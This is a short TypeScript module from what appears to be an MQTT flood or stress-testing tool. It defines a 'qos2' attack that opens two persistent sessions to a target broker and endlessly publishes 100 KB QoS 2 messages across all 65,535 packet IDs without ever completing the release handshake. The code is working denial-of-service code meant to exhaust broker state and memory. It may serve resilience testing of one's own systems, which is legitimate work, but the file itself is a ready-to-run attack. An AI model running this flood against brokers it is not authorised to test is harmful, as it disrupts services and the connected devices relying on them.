import mqttPacket from 'mqtt-packet'
import { type Attack, inLanes, openMqtt, pour } from '../flood.ts'

const CONNECTIONS = 2
const PAYLOAD = Buffer.alloc(100_000, 'x')
const LAST_ID = 65_535

export const qos2: Attack = {
  about: 'publishes QoS 2 messages of 100 KB and never releases them',
  start(target) {
    const topic = `dev/${target.id}/flood`
    inLanes(CONNECTIONS, async (lane) => {
      const terms = { clientId: `qos2-${lane}`, protocolVersion: 4, clean: false } as const
      const socket = await openMqtt(target, terms)
      let messageId = 0
      await pour(socket, () => {
        messageId = (messageId % LAST_ID) + 1
        const packet = { cmd: 'publish', topic, payload: PAYLOAD, qos: 2, messageId } as const
        return mqttPacket.generate({ ...packet, dup: false, retain: false })
      })
    })
  },
}
